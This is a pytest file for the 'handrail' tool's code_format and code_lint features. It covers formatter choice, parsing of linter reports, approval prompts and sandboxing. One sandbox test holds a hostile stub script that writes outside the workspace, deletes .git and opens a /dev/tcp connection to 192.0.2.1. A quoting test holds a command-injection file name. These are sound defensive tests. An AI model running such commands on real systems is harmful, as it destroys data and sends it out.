"""code_format and code_lint: which program they choose, that policy judges it as a command, what they report."""

import os
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from handrail import Handrail, UsageError
from handrail.code.programs import FORMATTERS, LINTERS, build_command
from handrail.policy.parse import parse_command
from handrail.settings import Settings
from handrail.settings.model import Tools

ON = Settings(tools=Tools(enable=("code_format", "code_lint")))
UGLY = "import os\nx = {  'a':1 }\n"
PRETTY = 'import os\n\nx = {"a": 1}\n'
Make = Callable[..., Handrail]


@pytest.fixture(autouse=True)
def ruff_is_on_path(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")


@pytest.fixture
def project(workspace: Path) -> Path:
    (workspace / "a.py").write_text(UGLY)
    (workspace / "ruff.toml").write_text("line-length = 100\n")
    return workspace


def add_program(workspace: Path, path: str, script: str) -> None:
    """A program of the project that prints what the test wants."""
    file = workspace / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(f"#!/bin/bash\n{script}\n")
    file.chmod(0o755)


def call(rail: Handrail, name: str, **arguments: Any) -> Any:
    result = rail.call(name, arguments)
    assert result.ok, result.error
    return result


def test_formatting_returns_the_diff_and_writes_nothing(project: Path, rail: Make) -> None:
    result = call(rail(settings=ON), "code_format", path="a.py")
    assert (result.data.formatter, result.data.changed, result.data.written) == ("ruff", True, False)
    assert '+x = {"a": 1}\n' in result.data.diff
    assert result.data.diff in result.content
    assert (project / "a.py").read_text() == UGLY
    assert result.artifacts.files_changed == ()


def test_formatting_with_write_is_a_change_that_can_be_undone(project: Path, rail: Make) -> None:
    coder = rail(settings=ON)
    result = call(coder, "code_format", path="a.py", write=True)
    assert (result.data.changed, result.data.written) == (True, True)
    assert (project / "a.py").read_text() == PRETTY
    assert result.artifacts.files_changed == ("a.py",)
    assert not list(project.glob(".ruff_cache"))
    coder.undo()
    assert (project / "a.py").read_text() == UGLY
    call(coder, "code_format", path="a.py", write=True)
    assert not call(coder, "code_format", path="a.py", write=True).data.written


def test_a_formatter_asks_before_it_writes_and_shows_its_diff(project: Path, rail: Make) -> None:
    coder = rail(settings=ON, mode="ask")
    assert call(coder, "code_format", path="a.py").data.changed, "a preview that changed nothing needs no person"
    request = coder.call("code_format", {"path": "a.py", "write": True}).error.details
    assert request["command"] == "ruff format --no-cache --quiet a.py"
    assert '+x = {"a": 1}' in request["preview"]["text"]
    assert (project / "a.py").read_text() == UGLY
    with pytest.raises(UsageError, match="builds its command itself"):
        coder.retry(request["id"], "ruff format .")
    [answered] = coder.answer(request["id"], "once").results
    assert (answered.ok, answered.data.written) == (True, True)
    assert (project / "a.py").read_text() == PRETTY


def test_a_formatter_is_judged_like_the_same_command_of_exec(project: Path, rail: Make) -> None:
    coder = rail(settings=ON, mode="plan")
    by_tool = coder.call("code_format", {"path": "a.py", "write": True}).error
    by_exec = coder.call("exec", {"command": "ruff format --no-cache --quiet a.py"}).error
    assert by_tool.code == by_exec.code == "POLICY_DENIED"
    assert by_tool.details == by_exec.details


def test_linting_lists_findings_with_rule_line_and_fix(project: Path, rail: Make) -> None:
    (project / "more").mkdir()
    (project / "more/b.py").write_text("def f(:\n")
    result = call(rail(settings=ON, mode="ask"), "code_lint", paths=["a.py", "more"])
    assert result.data.linters == ("ruff",)
    found = {(one.file, one.line, one.rule, one.severity) for one in result.data.findings}
    assert ("a.py", 1, "F401", "warning") in found
    assert ("more/b.py", 1, "invalid-syntax", "error") in found
    unused = next(one for one in result.data.findings if one.rule == "F401")
    assert (unused.column, unused.fix, unused.source) == (8, "Remove unused import: `os`", "ruff")
    assert "a.py:1:8: warning F401 `os` imported but unused" in result.content


ESLINT = """
cat <<'END'
[{"filePath": "WORKSPACE/a.ts", "messages": [{"ruleId": "semi", "severity": 2, "message": "Missing ;",
 "line": 1, "column": 6, "fix": {"range": [5, 5], "text": ";"}}]}]
END
exit 1
"""


def test_files_of_several_languages_are_checked_by_several_linters(project: Path, rail: Make) -> None:
    (project / "a.ts").write_text("let a\n")
    add_program(project, "node_modules/.bin/eslint", ESLINT.replace("WORKSPACE", str(project.resolve())))
    result = call(rail(settings=ON), "code_lint", paths=["a.py", "a.ts"])
    assert result.data.linters == ("ruff", "eslint")
    found = [(one.file, one.line, one.rule, one.severity, one.fix) for one in result.data.findings]
    assert ("a.ts", 1, "semi", "error", "replace with ';'") in found
    assert ("a.py", 1, "F401", "warning", "Remove unused import: `os`") in found


REPORTS: list[tuple[str, str, str, tuple[object, ...]]] = [
    (
        "pylint",
        "a.py",
        '[{"type": "convention", "path": "a.py", "line": 2, "column": 0, "message-id": "C0103", "symbol": "x",'
        ' "message": "Bad name"}]',
        (2, 1, "C0103", "info", "Bad name", None),
    ),
    (
        "flake8",
        "a.py",
        "a.py:1:1: F401 'os' imported but unused",
        (1, 1, "F401", "error", "'os' imported but unused", None),
    ),
    (
        "golangci-lint",
        "a.go",
        "a.go:3:5: x is unused (unused)\n\tvar x = 1",
        (3, 5, "unused", "warning", "x is unused", None),
    ),
    (
        "shellcheck",
        "a.sh",
        '[{"file": "a.sh", "line": 2, "endLine": 2, "column": 6, "endColumn": 8, "level": "info", "code": 2086,'
        ' "message": "Double quote", "fix": {"replacements": [{"replacement": "\\""}]}}]',
        (2, 6, "SC2086", "info", "Double quote", "insert '\"'"),
    ),
]


@pytest.mark.parametrize(("linter", "path", "report", "expected"), REPORTS, ids=[row[0] for row in REPORTS])
def test_the_report_of_each_linter_is_read(
    workspace: Path, rail: Make, linter: str, path: str, report: str, expected: tuple[object, ...]
) -> None:
    (workspace / path).write_text("x\n")
    add_program(workspace, f".venv/bin/{linter}", f"cat <<'END'\n{report}\nEND\nexit 1")
    result = call(rail(settings=ON), "code_lint", paths=[path], linter=linter)
    [one] = result.data.findings
    assert (one.file, one.source) == (path, linter)
    assert (one.line, one.column, one.rule, one.severity, one.message, one.fix) == expected


CHOSEN = [
    ("black", {"pyproject.toml": "[tool.black]\n[tool.ruff.lint]\n"}),
    ("ruff", {"pyproject.toml": "[tool.black]\n[tool.ruff.format]\n"}),
    ("yapf", {"setup.cfg": "[yapf]\n"}),
    ("autopep8", {"setup.cfg": "[pycodestyle]\n"}),
    ("black", {"pyproject.toml": "[project]\n", "src/pyproject.toml": "[tool.black]\n"}),
]


@pytest.mark.parametrize(("formatter", "files"), CHOSEN)
def test_the_configuration_of_the_project_chooses_the_formatter(
    workspace: Path, rail: Make, formatter: str, files: dict[str, str]
) -> None:
    (workspace / "src").mkdir()
    (workspace / "src/a.py").write_text(UGLY)
    for path, text in files.items():
        (workspace / path).write_text(text)
    for name in ("ruff", "black", "yapf", "autopep8"):
        add_program(workspace, f".venv/bin/{name}", f"cat > /dev/null; echo 'by = \"{name}\"'")
    data = call(rail(settings=ON), "code_format", path="src/a.py").data
    assert (data.formatter, f'+by = "{formatter}"' in data.diff) == (formatter, True)


def test_rustfmt_gets_the_edition_of_the_nearest_manifest_that_has_one(workspace: Path, rail: Make) -> None:
    (workspace / "Cargo.toml").write_text('[workspace.package]\nedition = "2024"\n')
    (workspace / "src").mkdir()
    (workspace / "src/Cargo.toml").write_text("[package]\nedition.workspace = true\n")
    (workspace / "src/a.rs").write_text("fn f() {}\n")
    add_program(workspace, ".venv/bin/rustfmt", 'echo "// $*"')
    assert "+// --edition=2024 --quiet\n" in call(rail(settings=ON), "code_format", path="src/a.rs").data.diff
    (workspace / "Cargo.toml").unlink()
    assert "+// --quiet\n" in call(rail(settings=ON), "code_format", path="src/a.rs").data.diff


def test_a_missing_program_names_its_installation(project: Path, rail: Make) -> None:
    (project / "a.sh").write_text("echo $a\n")
    coder = rail(settings=ON)
    for name, arguments, install in (
        ("code_format", {"path": "a.py", "formatter": "yapf"}, "pip install yapf"),
        ("code_format", {"path": "a.sh"}, "install shfmt"),
        ("code_lint", {"paths": ["a.py"], "linter": "pylint"}, "pip install pylint"),
    ):
        error = coder.call(name, arguments).error
        assert error.code == "UNAVAILABLE"
        assert install in error.message


def test_wrong_requests_are_refused(project: Path, rail: Make) -> None:
    (project / "a.bin").write_text("x")
    (project / "empty").mkdir()
    (project / "ruff.toml").unlink()
    coder = rail(settings=ON)
    for name, arguments, code in (
        ("code_format", {"path": "a.py", "formatter": "gofmt"}, "INVALID_ARGUMENT"),
        ("code_format", {"path": "a.py", "formatter": "none"}, "INVALID_ARGUMENT"),
        ("code_format", {"path": "a.bin"}, "UNAVAILABLE"),
        ("code_format", {"path": "none.py"}, "NOT_FOUND"),
        ("code_lint", {"paths": ["none.py"]}, "NOT_FOUND"),
        ("code_lint", {"paths": ["none"]}, "NOT_FOUND"),
        ("code_lint", {"paths": ["empty"]}, "INVALID_ARGUMENT"),
        ("code_lint", {"paths": []}, "INVALID_ARGUMENT"),
    ):
        assert coder.call(name, arguments).error.code == code, (name, arguments)


def test_the_failure_of_a_program_is_told_with_its_words(project: Path, rail: Make) -> None:
    (project / "a.py").write_text("def f(:\n")
    coder = rail(settings=ON)
    error = coder.call("code_format", {"path": "a.py"}).error
    assert error.code == "UNAVAILABLE"
    assert "ruff failed with exit code 2: error: Failed to parse a.py" in error.message
    add_program(project, ".venv/bin/pylint", "echo 'no such plugin' >&2; exit 32")
    error = coder.call("code_lint", {"paths": ["a.py"], "linter": "pylint"}).error
    assert "pylint failed with exit code 32: no such plugin" in error.message


def test_plugins_of_the_project_run_in_the_sandbox_and_their_changes_are_judged(workspace: Path, rail: Make) -> None:
    (workspace / "a.js").write_text("let a\n")
    script = (
        "(echo stolen > ../outside.txt) 2>/dev/null; rm -rf .git; (echo > /dev/tcp/192.0.2.1/80) 2>/dev/null; echo '[]'"
    )
    add_program(workspace, "node_modules/.bin/eslint", script)
    (workspace / ".git").mkdir()
    (workspace / ".git/HEAD").write_text("ref: refs/heads/main\n")
    coder = rail(settings=ON, mode="ask")
    result = coder.call("code_lint", {"paths": ["a.js"]})
    assert not result.ok
    assert result.error.code in {"PERMISSION_REQUIRED", "POLICY_DENIED"}
    assert (workspace / ".git/HEAD").exists()
    assert not (workspace.parent / "outside.txt").exists()


CHANGES_MORE = "echo y >> other.py; echo x > new.py"


def test_a_formatter_that_changes_other_files_is_told(project: Path, rail: Make) -> None:
    (project / "other.py").write_text("x\n")
    add_program(project, ".venv/bin/ruff", f"{CHANGES_MORE}; cat")
    coder = rail(settings=ON, mode="full")
    for write in (False, True):
        result = call(coder, "code_format", path="a.py", write=write)
        assert f"changed 2 files; undo {result.meta.undo}]\n" in result.content
        assert "  modified other.py +1\n" in result.content
        coder.undo()
        assert (project / "other.py").read_text() == "x\n"
        assert not (project / "new.py").exists()

    add_program(project, ".venv/bin/ruff", "echo x >> a.py; exit 3")
    result = coder.call("code_format", {"path": "a.py", "write": True})
    assert result.error.message == "ruff failed with exit code 3"
    assert result.content == f"{result.error.message}\n[changed 1 file; undo {result.meta.undo}]\n  modified a.py +1\n"


def test_a_linter_that_changes_files_is_told(project: Path, rail: Make) -> None:
    add_program(project, ".venv/bin/ruff", f"{CHANGES_MORE}; echo '[]'")
    coder = rail(settings=ON, mode="full")
    result = call(coder, "code_lint", paths=["a.py"])
    assert f"No findings.\n[changed 2 files; undo {result.meta.undo}]\n" in result.content
    add_program(project, ".venv/bin/ruff", f"{CHANGES_MORE}; echo hello")
    result = coder.call("code_lint", {"paths": ["a.py"]})
    assert result.error.message == "ruff printed no report: hello"
    assert result.content.startswith("ruff printed no report: hello\n[changed 1 file; undo ")


def test_a_folder_name_is_no_assignment(workspace: Path, rail: Make) -> None:
    (workspace / "PATH=x").mkdir()
    (workspace / "PATH=x/a.py").write_text(UGLY)
    add_program(workspace, "PATH=x/.venv/bin/yapf", "echo hi")
    result = call(rail(settings=ON, mode="full"), "code_format", path="PATH=x/a.py", formatter="yapf")
    assert "+hi\n" in result.data.diff


def test_every_command_is_a_formatter_for_policy_and_quotes_its_paths() -> None:
    path = "a b'; rm -rf x $(id).py"
    for program in (*FORMATTERS, *LINTERS):
        for template in filter(None, (program.command, program.in_place)):
            [step] = parse_command(build_command(template, template.split()[0], [path])).steps
            assert step.classification.rule in {"exec.formatter", "exec.build"}, program.name
            if "{path" in template:
                assert path in step.words or any(use.path == path for use in step.redirections), template
    assert build_command("gofmt -w {path}", "gofmt", ["-x.go"]) == "gofmt -w ./-x.go"
